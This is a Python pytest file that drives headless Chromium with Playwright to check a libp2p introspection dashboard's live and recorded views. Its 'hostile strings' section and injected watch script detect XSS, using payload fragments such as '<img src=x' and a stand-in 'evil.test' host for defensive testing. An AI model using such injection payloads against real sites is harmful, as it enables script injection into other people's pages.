"""The dashboard in a real browser: headless Chromium (Debian's) driven by Playwright.

End to end against the demo network started by the CLI (``demo --port 0
--dashboard-port 0``), and against a recording given with ``dashboard
--file``. Assertions are on what the page shows. Screenshots go to
``test-artifacts/dashboard/``.

Never ``playwright install`` (it downloads a browser): the tests use
``/usr/bin/chromium`` and skip without it, except under CI (env ``CI``),
where they fail (``.ci/run`` installs Debian's chromium).
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import re
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cli_process import running
from dashboard_process import read_lines_until

CHROMIUM = Path(os.environ.get("LIBP2P_INTROSPECTION_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--host-resolver-rules=MAP evil.test 127.0.0.1",  # another site, on loopback
]  # fmt: skip
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "dashboard"
SAMPLE_PEER = "8de3166db28fddb199f05be0acea65772e7a1b289086902160d1060e83dac2fd"
#: Bound on any one thing the page should come to show, ms.
SHOW_TIMEOUT_MS = 20_000
INTERVAL_MS = 300
#: Runs in every page before its own scripts. Records: calls of window.xss (what a
#: hostile payload calls if parsed as markup), elements a payload would insert, and
#: Content-Security-Policy violations (the page's own must cause none).
WATCH_SCRIPT = """
window.__xss = [];
window.xss = (field) => window.__xss.push(String(field));
window.__injected = [];
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) =>
  window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
const watch = new MutationObserver((records) => {
  for (const r of records) for (const n of r.addedNodes) {
    if (n.nodeType !== 1) continue;
    for (const x of [n, ...n.querySelectorAll("*")]) {
      if (x.matches("img, script, iframe, object, embed, .xss")) window.__injected.push(x.outerHTML.slice(0, 160));
    }
  }
});
document.addEventListener("DOMContentLoaded", () => watch.observe(document, { childList: true, subtree: true }));
"""


def _unavailable(reason: str) -> None:
    if os.environ.get("CI"):
        pytest.fail(f"{reason} (required under CI)")
    pytest.skip(reason)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        _unavailable(f"{CHROMIUM} not found: apt-get install chromium")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _unavailable("playwright is not installed (pip install -e '.[dev]')")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True, timeout=60_000
        )
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture(scope="module")
def demo() -> Iterator[dict[str, str]]:
    """The demo network with its dashboard, as a user starts it; its URLs and peer id."""
    args = ["-m", "libp2p_introspection", "demo", "--port", "0", "--dashboard-port", "0",
            "--interval-ms", str(INTERVAL_MS), "--nodes", "3", "--no-churn", "--seed", "11"]  # fmt: skip
    with running(args, first_line_timeout=90) as (process, first):
        assert first.startswith("ws://127.0.0.1:") and first.endswith("/introspect"), first
        lines = read_lines_until(process, lambda line: line.startswith("Dashboard: "), 30)
        peer = re.search(r"py-libp2p node (\S+)", "\n".join(lines))
        assert peer, lines
        dashboard = next(line for line in lines if line.startswith("Dashboard: ")).split()[1]
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/", dashboard), dashboard
        yield {"ws": first, "dashboard": dashboard, "peer": peer.group(1)}


def _open_page(browser: Any, **options: Any) -> Iterator[Any]:
    """A page in a new context; after the test: no page errors, no CSP violations."""
    from playwright.sync_api import expect

    context = browser.new_context(**{"viewport": {"width": 1400, "height": 1000}, **options})
    context.set_default_timeout(SHOW_TIMEOUT_MS)
    context.add_init_script(WATCH_SCRIPT)
    # Assertions have their own timeout (5 s by default): a loaded 2-core machine
    # can need longer to reconnect and redraw, so they wait as long as actions do.
    expect.set_options(timeout=SHOW_TIMEOUT_MS)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    # CSP refusals, of every document the page showed (a test that provokes some clears it).
    page.csp_refusals = []
    page.on(
        "console",
        lambda m: page.csp_refusals.append(m.text) if "Content Security Policy" in m.text else None,
    )
    yield page
    violations = page.evaluate("() => window.__csp || []") if not page.is_closed() else []
    context.close()
    assert not errors, f"errors in the page: {errors}"
    assert not violations and not page.csp_refusals, (
        f"the page broke its own Content-Security-Policy: {violations} {page.csp_refusals}"
    )


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    yield from _open_page(browser)


def shot(page: Any, name: str) -> None:
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def shown_ts(page: Any) -> int:
    return int(page.get_attribute("#snapshot-ts", "data-ts") or 0)


def wait_shown_ts_above(page: Any, ts: int) -> None:
    page.wait_for_function(
        "(ts) => Number(document.querySelector('#snapshot-ts').dataset.ts || 0) > ts", arg=ts
    )


def wait_until(pg: Any, predicate: str, arg: Any = None, *, timeout_ms: float = 20_000,
               polling_ms: float = 200) -> Any:  # fmt: skip
    """Until the page function ``predicate`` (which may be async) resolves to a truthy
    value, evaluated every ``polling_ms``; that value. TimeoutError after ``timeout_ms``.

    Playwright's ``wait_for_function`` takes the Promise an async function returns for a
    truthy value and returns at once, having waited for nothing: an async predicate must
    come here (``page.evaluate`` awaits it)."""
    deadline = time.monotonic() + timeout_ms / 1000
    while True:
        value = pg.evaluate(predicate, arg)
        if value:
            return value
        if time.monotonic() >= deadline:
            raise TimeoutError(f"waited {timeout_ms:.0f} ms for {predicate[:120]!r}; last {value!r}")
        pg.wait_for_timeout(polling_ms)


def wait_last_snapshot_of_pause(pg: Any) -> None:
    """Once the feed is paused: until the snapshot a ready asked for before the pause has
    come (GET /api/status: ``awaitingState`` false) and the page shows the latest stored
    one. No snapshot comes after that while paused."""
    wait_until(
        pg,
        """async () => { const s = await (await fetch('/api/status')).json();
          if (!s.paused || s.awaitingState) return false;
          const latest = (await (await fetch('/api/streams?size=1')).json()).ts;
          return window.dashboardState.latest?.ts === latest
            && Number(document.querySelector('#snapshot-ts').dataset.ts || 0) === latest; }""",
    )  # fmt: skip


def open_following(pg: Any, url: str, connections: int) -> None:
    """Open the dashboard at ``url`` and wait until its Connections table shows a
    snapshot of at least ``connections`` connections; the page's own formatter is
    ``window.__fmt`` (for the values a cell should show)."""
    pg.goto(url)
    pg.evaluate("async () => { window.__fmt = await import('/static/js/format.js'); }")
    pg.wait_for_function(
        "(n) => (window.dashboardState?.view?.conns.length || 0) >= n"
        " && document.querySelectorAll('#connections-table .tabulator-row').length > 5",
        arg=connections,
    )  # fmt: skip


def open_tab(page: Any, name: str) -> None:
    page.click(f"nav.tabs button[data-tab={name}]")
    page.wait_for_selector(f"#tab-{name}.active")


def test_an_async_predicate_is_waited_for_not_taken_for_true(page: Any):
    # wait_for_function returns at once on an async predicate (its Promise is truthy);
    # wait_until waits for what the Promise resolves to.
    page.set_content("<p id=x>0</p>")
    with pytest.raises(TimeoutError):
        wait_until(page, "async () => false", timeout_ms=600, polling_ms=100)
    page.evaluate("() => setTimeout(() => { document.getElementById('x').textContent = '1'; }, 300)")
    got = wait_until(page, "async () => document.getElementById('x').textContent === '1' && 'one'")
    assert got == "one"


def test_live_node_connections_and_views(page: Any, demo: dict[str, str]):
    from playwright.sync_api import expect

    page.goto(demo["dashboard"])
    expect(page.locator("#peer-id")).to_have_text(demo["peer"])
    expect(page.locator("#runtime-impl")).to_have_text("py-libp2p")
    expect(page.locator("#conn-state")).to_have_text("connected")
    expect(page.locator("#server-url")).to_have_text(demo["ws"])
    expect(page.locator("#mode-badge")).to_have_text("live")

    # The connections table fills, and changes from one snapshot to the next.
    rows = page.locator("#connections-table .tabulator-row")
    expect(rows.first).to_be_visible()
    assert rows.count() >= 1
    expect(rows.first).to_contain_text("ACTIVE")
    expect(rows.first).to_contain_text("/noise")
    before = page.inner_text("#connections-table .tabulator-tableholder")
    page.wait_for_function(
        "(old) => document.querySelector('#connections-table .tabulator-tableholder').innerText !== old",
        arg=before,
    )
    shot(page, "live-connections")

    # Peer ids: short in the table, full on hover, copied by their button.
    peer_cell = rows.first.locator(".tabulator-cell[tabulator-field=peer]")
    full = peer_cell.locator(".peer-cell").get_attribute("title")
    assert full and full.startswith("12D3KooW") and "…" in peer_cell.inner_text()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    peer_cell.locator("button.copy").click()
    expect(page.locator("#message")).to_have_text(f"copied {full}")
    assert page.evaluate("() => navigator.clipboard.readText()") == full

    # A connection's streams, on click.
    rows.first.locator(".tabulator-cell[tabulator-field=status]").click()
    expect(page.locator("#conn-detail")).to_be_visible()
    expect(page.locator("#detail-peer")).to_contain_text("12D3KooW")

    # Streams of every connection.
    open_tab(page, "streams")
    expect(page.locator("#streams-table .tabulator-row").first).to_be_visible()
    expect(page.locator("#stream-count")).to_contain_text("streams")
    shot(page, "live-streams")

    # Traffic over time: the node's chart draws a series.
    open_tab(page, "traffic")
    expect(page.locator("#chart-node canvas")).to_be_visible()
    expect(page.locator("#traffic-conn option")).not_to_have_count(1)
    shot(page, "live-traffic")

    # DHT buckets with their peers.
    open_tab(page, "dht")
    expect(page.locator("#dht-summary")).to_contain_text("k=")
    expect(page.locator("#dht-table .tabulator-row").first).to_be_visible()
    expect(page.locator("#dht-table .tabulator-group").first).to_contain_text(
        "common prefix length"
    )
    shot(page, "live-dht")


def test_events_table_and_type_filter(page: Any, demo: dict[str, str]):
    from playwright.sync_api import expect

    page.goto(demo["dashboard"])
    expect(page.locator("#peer-id")).to_have_text(demo["peer"])
    open_tab(page, "events")
    rows = page.locator("#events-table .tabulator-row")
    expect(rows.first).to_be_visible()
    chips = page.locator("#event-chips .chip")
    expect(chips.first).to_be_visible()
    # Filter on the type of the newest event shown: only that type remains.
    wanted = rows.first.locator(".tabulator-cell[tabulator-field=type]").inner_text().strip()
    page.click(f"#event-chips .chip[data-type='{wanted}']")
    expect(page.locator(f"#event-chips .chip.on[data-type='{wanted}']")).to_be_visible()
    page.wait_for_function(
        """(wanted) => {
            const cells = [...document.querySelectorAll('#events-table .tabulator-row .tabulator-cell[tabulator-field=type]')];
            return cells.length > 0 && cells.every((c) => c.innerText.trim() === wanted);
        }""",
        arg=wanted,
    )
    types = page.locator("#events-table .tabulator-cell[tabulator-field=type]").all_inner_texts()
    assert types and {t.strip() for t in types} == {wanted}
    # Each event's JSON opens on click.
    rows.first.locator(".tabulator-cell[tabulator-field=summary]").click()
    expect(page.locator("#events-table pre.event-json").first).to_contain_text(
        f'"type": "{wanted}"'
    )
    shot(page, "live-events-filtered")
    page.click(f"#event-chips .chip[data-type='{wanted}']")  # off again
    expect(page.locator("#event-chips .chip.on")).to_have_count(0)


def test_pause_stops_updates_and_resume_restarts_them(page: Any, demo: dict[str, str]):
    from playwright.sync_api import expect

    page.goto(demo["dashboard"])
    expect(page.locator("#conn-state")).to_have_text("connected")
    wait_shown_ts_above(page, 0)
    page.click("#pause-btn")
    expect(page.locator("#feed-state")).to_have_text("paused")
    expect(page.locator("#pause-btn")).to_have_text("Resume")
    wait_last_snapshot_of_pause(page)  # a snapshot asked for before the pause may still come
    paused_at = shown_ts(page)
    time.sleep(6 * INTERVAL_MS / 1000)
    assert shown_ts(page) == paused_at, "a snapshot arrived while paused"
    shot(page, "live-paused")
    page.click("#pause-btn")
    expect(page.locator("#pause-btn")).to_have_text("Pause")
    expect(page.locator("#feed-state")).to_have_text("")
    wait_shown_ts_above(page, paused_at)


def test_timeline_shows_an_earlier_snapshot(page: Any, demo: dict[str, str]):
    from playwright.sync_api import expect

    page.goto(demo["dashboard"])
    expect(page.locator("#conn-state")).to_have_text("connected")
    page.wait_for_function("() => Number(document.querySelector('#timeline').max) >= 3")
    newest = shown_ts(page)
    page.focus("#timeline")
    page.keyboard.press("Home")  # the oldest stored snapshot
    expect(page.locator("#view-time")).to_contain_text("before the newest")
    expect(page.locator("#live-btn")).to_be_enabled()
    page.wait_for_function(
        "(ts) => Number(document.querySelector('#snapshot-ts').dataset.ts) < ts", arg=newest
    )
    earlier = shown_ts(page)
    expect(page.locator("#connections-table .tabulator-row").first).to_be_visible()
    time.sleep(4 * INTERVAL_MS / 1000)  # live snapshots keep coming; the chosen moment stays
    assert shown_ts(page) == earlier
    shot(page, "timeline-earlier")
    page.click("#live-btn")
    expect(page.locator("#view-time")).to_contain_text("live")
    wait_shown_ts_above(page, newest)


def test_load_a_recording_from_the_page_then_connect_back(page: Any, demo: dict[str, str],
                                                        fixtures_dir: Path):  # fmt: skip
    from playwright.sync_api import expect

    page.goto(demo["dashboard"])
    expect(page.locator("#peer-id")).to_have_text(demo["peer"])
    page.set_input_files("#file-input", str(fixtures_dir / "sample-1min.mock"))
    expect(page.locator("#peer-id")).to_have_text(SAMPLE_PEER)
    expect(page.locator("#mode-badge")).to_have_text("recording")
    expect(page.locator("#runtime-impl")).to_have_text("go-libp2p")
    expect(page.locator("#runtime-platform")).to_have_text("macOS")
    expect(page.locator("#recording-name")).to_contain_text("sample-1min.mock")
    expect(page.locator("#conn-count")).to_have_text("10 of 10 connections")
    expect(page.locator("#connections-table .tabulator-row")).to_have_count(10)
    expect(page.locator("#num-streams")).to_have_text("96")
    expect(page.locator("#pause-btn")).to_be_disabled()
    # The recording's closed connections show as closed; the filters narrow the table.
    expect(page.locator("#connections-table .tabulator-row.closed-row")).to_have_count(6)
    page.select_option("#filter-status", "ACTIVE")
    expect(page.locator("#conn-count")).to_have_text("4 of 10 connections")
    page.select_option("#filter-status", "")
    page.fill("#filter-peer", "00539c6e")
    expect(page.locator("#conn-count")).to_have_text("1 of 10 connections")
    page.fill("#filter-peer", "")
    page.fill("#filter-proto", "/meshsub/")
    expect(page.locator("#connections-table .tabulator-row")).not_to_have_count(10)
    page.fill("#filter-proto", "")
    expect(page.locator("#conn-count")).to_have_text("10 of 10 connections")
    shot(page, "recording-connections")
    # Back to the live node, from the page.
    page.fill("#connect-url", demo["ws"])
    page.click("#connect-btn")
    expect(page.locator("#mode-badge")).to_have_text("live")
    expect(page.locator("#peer-id")).to_have_text(demo["peer"])
    expect(page.locator("#conn-state")).to_have_text("connected")


def test_dashboard_file_option_shows_a_recording(page: Any, fixtures_dir: Path):
    from playwright.sync_api import expect

    args = ["-m", "libp2p_introspection", "dashboard", "--port", "0",
            "--file", str(fixtures_dir / "sample-1min.mock")]  # fmt: skip
    with running(args, first_line_timeout=60) as (_, url):
        assert re.fullmatch(r"http://127\.0\.0\.1:\d+/", url), url
        page.goto(url)
        expect(page.locator("#peer-id")).to_have_text(SAMPLE_PEER)
        expect(page.locator("#mode-badge")).to_have_text("recording")
        # A recording is connected to nothing: no connection badge ("disconnected").
        expect(page.locator("#conn-state")).to_be_hidden()
        expect(page.locator("#connections-table .tabulator-row")).to_have_count(10)
        expect(page.locator("#timeline")).to_have_attribute("max", "29")
        open_tab(page, "dht")
        expect(page.locator("#dht-summary")).to_contain_text("k=20 \u03b1=3")
        expect(page.locator("#dht-summary")).to_contain_text("927 query events kept")
        # The toolkit's own query events (peerIds with null entries) counted by peer: the
        # peer of the first bucket with the most of them, and one with none.
        counts = fixture_queries_by_peer(fixtures_dir / "sample-1min.mock")
        busiest = max(counts["bucket0"], key=lambda p: sum(counts["by_peer"].get(p, (0, 0))))
        quiet = [p for p in counts["bucket0"] if p not in counts["by_peer"]]
        expected_in, expected_out = counts["by_peer"][busiest]
        row = dht_row(page, busiest)
        expect(row.locator("[tabulator-field=qin]")).to_have_text(str(expected_in))
        expect(row.locator("[tabulator-field=qout]")).to_have_text(str(expected_out))
        expect(row.locator("[tabulator-field=last]")).to_contain_text(re.compile(r"^(in|out) "))
        if quiet:
            expect(dht_row(page, quiet[0]).locator("[tabulator-field=qin]")).to_have_text("0")
        shot(page, "recording-dht")
        open_tab(page, "events")
        expect(page.locator("#event-chips .chip[data-type=InboundDHTQuery] .n")).to_have_text("465")
        shot(page, "recording-events")


def fixture_queries_by_peer(path: Path) -> dict[str, Any]:
    """From the recording itself: the peers of the last snapshot's cpl-0 bucket, and per
    peer id the (inbound, outbound) DHT query events naming it in peerIds."""
    from libp2p_introspection.protocol.recording import RecordingReader

    by_peer: dict[str, list[int]] = {}
    bucket0: list[str] = []
    with RecordingReader(path) as reader:
        for message in reader.messages():
            if message.WhichOneof("payload") == "state":
                buckets = message.state.subsystems.dht.buckets
                bucket0 = [p.peer_id for b in buckets if b.cpl == 0 for p in b.peers]
            elif message.WhichOneof("payload") == "event" and "DHT" in message.event.type.name:
                inbound = message.event.type.name == "InboundDHTQuery"
                for peer in json.loads(message.event.content)["peerIds"]:
                    if peer:
                        by_peer.setdefault(peer, [0, 0])[0 if inbound else 1] += 1
    return {"bucket0": bucket0, "by_peer": {k: tuple(v) for k, v in by_peer.items()}}


def dht_row(page: Any, peer: str) -> Any:
    """The DHT table's row of ``peer`` (its peer cell's title is the whole id)."""
    return page.locator(
        "#dht-table .tabulator-row", has=page.locator(f".peer-cell[title='{peer}']")
    )


def dht_shapes_recording(path: Path) -> dict[str, str]:
    """A recording whose DHT query events come in this project's older shape (peerId,
    queryType, durationMs, lower case) and in PROTOCOL.md §3's, one peer each."""
    from libp2p_introspection.protocol import pb
    from libp2p_introspection.protocol.recording import RecordingWriter

    old, new, quiet = (f"12D3KooW{name}Peer" + "x" * 36 for name in ("Old", "New", "Quiet"))
    messages = [
        pb.ServerMessage(runtime=pb.Runtime(implementation="py-libp2p", peer_id="12D3KooWus"))
    ]
    state = pb.State(instant_ts=1_700_000_010_000, start_ts=1_700_000_009_000)
    dht = state.subsystems.dht
    dht.protocol, dht.enabled = "/ipfs/kad/1.0.0", True
    for cpl, peer in enumerate((old, new, quiet)):
        dht.buckets.add(cpl=cpl).peers.add(peer_id=peer)
    messages.append(pb.ServerMessage(state=state))
    contents = [
        ("InboundDHTQuery", 1_700_000_001_000, {"peerId": old, "queryType": "GET_VALUE", "result": "success"}),
        ("InboundDHTQuery", 1_700_000_002_000, {"peerId": old, "queryType": "PING", "result": "error"}),
        ("OutboundDHTQuery", 1_700_000_003_000, {"peerId": old, "queryType": "FIND_NODE",
                                                 "result": "timeout", "durationMs": 10_004}),
        ("OutboundDHTQuery", 1_700_000_004_000, {
            "direction": "OUTBOUND", "peerIds": [new], "queryId": "ab" * 32, "targetPeerId": "6b",
            "totalTimeMs": 12, "totalSteps": 1, "trigger": "API", "type": "VALUE",
            "messageType": "PUT_VALUE", "result": "SUCCESS"}),
        ("InboundDHTQuery", 1_700_000_005_000, {"direction": "INBOUND", "peerIds": [None, new],
                                                "totalTimeMs": 3, "type": "CONTENT", "result": "SUCCESS"}),
    ]  # fmt: skip
    for name, ts, content in contents:
        event = pb.Event(ts=ts, content=json.dumps(content))
        event.type.name = name
        messages.append(pb.ServerMessage(event=event))
    with RecordingWriter(path) as writer:
        for message in messages:
            message.version.version = 1
            writer.write(message.SerializeToString())
    return {"old": old, "new": new, "quiet": quiet}


def test_dht_queries_of_either_event_shape_show_by_peer(page: Any, tmp_path: Path):
    from playwright.sync_api import expect

    peers = dht_shapes_recording(tmp_path / "shapes.mock")
    args = [
        "-m",
        "libp2p_introspection",
        "dashboard",
        "--port",
        "0",
        "--file",
        str(tmp_path / "shapes.mock"),
    ]
    with running(args, first_line_timeout=60) as (_, url):
        page.goto(url)
        open_tab(page, "dht")
        expect(page.locator("#dht-summary")).to_contain_text("5 query events kept")
        old, new, quiet = (dht_row(page, peers[k]) for k in ("old", "new", "quiet"))
        expect(old.locator("[tabulator-field=qin]")).to_have_text("2")
        expect(old.locator("[tabulator-field=qout]")).to_have_text("1")
        expect(old.locator("[tabulator-field=last]")).to_contain_text(
            "out FIND_NODE TIMEOUT · 10.0 s"
        )
        expect(new.locator("[tabulator-field=qin]")).to_have_text("1")
        expect(new.locator("[tabulator-field=qout]")).to_have_text("1")
        expect(new.locator("[tabulator-field=last]")).to_contain_text("in CONTENT SUCCESS · 3 ms")
        expect(quiet.locator("[tabulator-field=qin]")).to_have_text("0")
        expect(quiet.locator("[tabulator-field=last]")).to_have_text("")
        shot(page, "recording-dht-shapes")


def test_before_the_first_snapshot_the_page_says_it_waits(page: Any):
    """A node that never answers: the page says it waits for a snapshot, and shows no
    empty chart box where a connection's chart will be."""
    from playwright.sync_api import expect

    with socket.socket() as unused:  # a loopback port nothing listens on
        unused.bind(("127.0.0.1", 0))
        nowhere = f"ws://127.0.0.1:{unused.getsockname()[1]}/introspect"
    args = ["-m", "libp2p_introspection", "dashboard", nowhere, "--port", "0"]
    with running(args, first_line_timeout=60) as (_, url):
        page.goto(url)
        expect(page.locator("#mode-badge")).to_have_text("live")
        expect(page.locator("#conn-state")).to_be_visible()
        expect(page.locator("#connections-table .tabulator-placeholder")).to_have_text(
            "waiting for the first snapshot…"
        )
        open_tab(page, "dht")
        expect(page.locator("#dht-summary")).to_have_text("waiting for the first snapshot…")
        expect(page.locator("#dht-chart-hint")).to_have_text("waiting for the first snapshot…")
        expect(page.locator("#chart-dht")).to_be_hidden()
        open_tab(page, "traffic")
        expect(page.locator("#node-chart-hint")).to_have_text("waiting for the first snapshot…")
        expect(page.locator("#chart-node")).to_be_hidden()
        expect(page.locator("#conn-chart-hint")).to_be_visible()
        expect(page.locator("#chart-conn")).to_be_hidden()
        shot(page, "waiting")


def test_a_connection_chart_appears_once_one_is_chosen(page: Any, demo: dict[str, str]):
    from playwright.sync_api import expect

    page.goto(demo["dashboard"])
    expect(page.locator("#conn-state")).to_have_text("connected")
    open_tab(page, "traffic")
    expect(page.locator("#chart-node canvas")).to_be_visible()
    expect(page.locator("#node-chart-hint")).to_be_hidden()
    expect(page.locator("#conn-chart-hint")).to_be_visible()
    expect(page.locator("#chart-conn")).to_be_hidden()
    expect(page.locator("#traffic-conn option")).not_to_have_count(1)
    page.select_option("#traffic-conn", index=1)
    expect(page.locator("#chart-conn canvas")).to_be_visible()
    expect(page.locator("#conn-chart-hint")).to_be_hidden()
    page.select_option("#traffic-conn", index=0)
    expect(page.locator("#chart-conn")).to_be_hidden()
    expect(page.locator("#conn-chart-hint")).to_be_visible()


#: Runs before the page's scripts: keeps every uPlot chart the page makes, to read
#: what its time axis drew (uPlot draws on a canvas).
KEEP_PLOTS_SCRIPT = """
window.__plots = [];
let realUPlot;
Object.defineProperty(window, "uPlot", {
  configurable: true,
  get: () => realUPlot,
  set: (u) => {
    realUPlot = new Proxy(u, { construct(target, args) {
      const plot = new target(...args);
      window.__plots.push(plot);
      return plot;
    } });
  },
});
"""
#: The time axis's labels of the chart in element ``id``, as drawn: each one's text
#: and its box (CSS px; a label is centred on its tick).
TIME_LABELS_SCRIPT = r"""(id) => {
    const u = window.__plots.find((p) => p.root.parentElement.id === id);
    const axis = u.axes[0];
    const ratio = window.devicePixelRatio || 1;
    const ctx = document.createElement("canvas").getContext("2d");
    ctx.font = Array.isArray(axis.font) ? axis.font[0] : axis.font;
    return (axis._splits || []).map((v, i) => {
        const text = String(axis._values[i] ?? "");
        const width = Math.max(...text.split("\n").map((l) => ctx.measureText(l).width)) / ratio;
        const x = u.valToPos(v, "x");
        return { text, left: x - width / 2, right: x + width / 2 };
    }).filter((l) => l.text !== "");
}"""
TIME_LABELS_READY = """(id) => {
    const u = window.__plots.find((p) => p.root.parentElement.id === id);
    return Boolean(u && u.axes[0]._splits && u.axes[0]._splits.length > 1);
}"""


@pytest.mark.parametrize("width", [1400, 1000, 820])
def test_dht_chart_time_labels_do_not_overlap(browser: Any, fixtures_dir: Path, width: int):
    from playwright.sync_api import expect

    args = ["-m", "libp2p_introspection", "dashboard", "--port", "0",
            "--file", str(fixtures_dir / "sample-1min.mock")]  # fmt: skip
    with running(args, first_line_timeout=60) as (_, url):
        with contextlib.contextmanager(_open_page)(
            browser, viewport={"width": width, "height": 900}
        ) as page:
            page.add_init_script(KEEP_PLOTS_SCRIPT)
            page.goto(url)
            expect(page.locator("#peer-id")).to_have_text(SAMPLE_PEER)
            for tab, chart in (("dht", "chart-dht"), ("traffic", "chart-node")):
                open_tab(page, tab)
                page.wait_for_function(TIME_LABELS_READY, arg=chart)
                labels = page.evaluate(TIME_LABELS_SCRIPT, chart)
                assert len(labels) >= 2, labels
                for a, b in itertools.pairwise(labels):
                    assert a["right"] + 4 <= b["left"], f"{chart} at {width}px: {a} overlaps {b}"
                assert all("\n" not in label["text"] for label in labels), labels  # one line each
            shot(page, f"recording-dht-{width}")


# ---------------------------------------------------------------- hostile strings

NUMBER_TIP = re.compile(r"^\d+ bytes; now \d+ bytes per second$")


def hover_every_cell(page: Any, table: str, tooltips: dict[str, Any]) -> int:
    """Hover each cell of ``table``; where its column has a tooltip, wait for it and check
    its text (``tooltips``: field -> exact text or pattern). Returns the cells hovered."""
    from playwright.sync_api import expect

    expect(page.locator(f"{table} .tabulator-row").first).to_be_visible()
    cells = page.locator(f"{table} .tabulator-row .tabulator-cell")
    count = cells.count()
    assert count > 0, f"no cells in {table}"
    # Each table has its own tooltip, which stays until that table shows another (or a
    # click): the one just opened is the newest in the document.
    tip = page.locator(".tabulator-tooltip").last
    for i in range(count):
        cell = cells.nth(i)
        field = cell.get_attribute("tabulator-field")
        cell.hover()
        if field in tooltips:
            expect(tip).to_have_text(tooltips[field])
    return count


def assert_nothing_ran(page: Any) -> None:
    ran = page.evaluate("() => window.__xss")
    injected = page.evaluate("() => window.__injected")
    assert not ran and not injected, f"payloads parsed as markup: ran {ran}, inserted {injected}"


def walk_every_view(page: Any, fields: dict[str, str]) -> None:
    """Open each view of the hostile node, hover every cell: each string shows as text."""
    from playwright.sync_api import expect

    f = fields
    # A message (a command's answer) that goes away would move the tables under the mouse.
    expect(page.locator("#message")).to_be_hidden()
    # The node header.
    expect(page.locator("#peer-id")).to_have_text(f["runtime.peer_id"])
    expect(page.locator("#peer-id")).to_have_attribute("title", f["runtime.peer_id"])
    for field, box in (
        ("implementation", "impl"),
        ("version", "version"),
        ("platform", "platform"),
    ):
        expect(page.locator(f"#runtime-{box}")).to_have_text(f[f"runtime.{field}"])

    # Connections: every cell, tooltips included; then the connection's streams.
    open_tab(page, "connections")
    expect(page.locator("#connections-table .tabulator-row")).to_have_count(1)
    row = page.locator("#connections-table .tabulator-row").first
    expect(row.locator(".peer-cell")).to_have_attribute("title", f["conn.peer_id"])
    expect(row.locator("[tabulator-field=src]")).to_have_text(f"{f['conn.src']}→ {f['conn.dst']}")
    for field, name in (
        ("transport", "conn.transport_id"),
        ("mux", "conn.muxer"),
        ("sec", "conn.security"),
    ):
        expect(row.locator(f"[tabulator-field={field}]")).to_have_text(f[name])
    hover_every_cell(page, "#connections-table", {
        "src": f"{f['conn.src']} → {f['conn.dst']}", "transport": f["conn.transport_id"],
        "mux": f["conn.muxer"], "sec": f["conn.security"], "in": NUMBER_TIP, "out": NUMBER_TIP,
    })  # fmt: skip
    row.locator("[tabulator-field=status]").click()
    expect(page.locator("#detail-peer")).to_have_text(f"{f['conn.peer_id']} (ACTIVE)")
    expect(page.locator("#conn-streams-table .tabulator-row")).to_have_count(2)
    stream_tips = {
        "proto": re.compile(r"^<img src=x .*stream\.protocol"),
        "in": NUMBER_TIP,
        "out": NUMBER_TIP,
    }
    hover_every_cell(page, "#conn-streams-table", stream_tips)
    page.click("#detail-close")
    expect(page.locator("#conn-detail")).to_be_hidden()

    # Peers: the agent's group header and chip, every cell and its tooltip.
    open_tab(page, "peers")
    expect(page.locator("#peers-table .tabulator-row:not(.tabulator-group)")).to_have_count(1)
    expect(page.locator("#peers-table .tabulator-group").first).to_have_text(f"{f['peer.agent']}1 peer")
    expect(page.locator("#peers-agents .chip")).to_have_text(f"{f['peer.agent']}1")
    expect(page.locator("#peers-agents .chip")).to_have_attribute("data-group", "=" + f["peer.agent"])
    peer_row = page.locator("#peers-table .tabulator-row:not(.tabulator-group)").first
    expect(peer_row.locator(".peer-cell")).to_have_attribute("title", f["conn.peer_id"])
    expect(peer_row.locator("[tabulator-field=listen]")).to_have_text(f["peer.listen"])
    hover_every_cell(page, "#peers-table", {
        "protoVersion": f["peer.protocol_version"], "nprotocols": f["peer.protocol"],
        "listen": f["peer.listen"], "observed": f["peer.observed"],
        "conns": "1 active connection of 1 shown",
    })  # fmt: skip

    # Streams of every connection.
    open_tab(page, "streams")
    expect(page.locator("#streams-table .tabulator-row")).to_have_count(2)
    protos = page.locator("#streams-table .tabulator-row [tabulator-field=proto]").all_inner_texts()
    assert sorted(p.strip() for p in protos) == sorted(
        [f["stream.protocol"], f["stream.protocol.2"]]
    )
    hover_every_cell(page, "#streams-table", stream_tips)

    # Traffic: the connection chooser's options, and the charts' legends.
    open_tab(page, "traffic")
    option = page.locator("#traffic-conn option").nth(1)
    expect(option).to_have_text(re.compile(r" · ACTIVE · " + re.escape(f["conn.muxer"]) + "$"))
    page.select_option("#traffic-conn", index=1)
    expect(page.locator("#chart-node .u-legend")).to_contain_text("in")

    # DHT: the summary, the bucket's group header, every cell.
    open_tab(page, "dht")
    expect(page.locator("#dht-table .tabulator-row:not(.tabulator-group)")).to_have_count(1)
    expect(page.locator("#dht-summary")).to_contain_text(f"{f['dht.protocol']} enabled")
    expect(page.locator("#dht-table .tabulator-group").first).to_contain_text(
        "common prefix length 0"
    )
    expect(page.locator("#dht-table .peer-cell")).to_have_attribute("title", f["dht.peer"])
    hover_every_cell(page, "#dht-table", {})

    # Events: the type's chip, the rows, each event's JSON.
    open_tab(page, "events")
    chip = page.locator("#event-chips .chip").first
    expect(chip.locator(".type-chip")).to_have_text(f["event.type"])
    expect(chip).to_have_attribute("data-type", f["event.type"])
    chip.click()
    expect(page.locator("#event-chips .chip.on")).to_have_count(1)
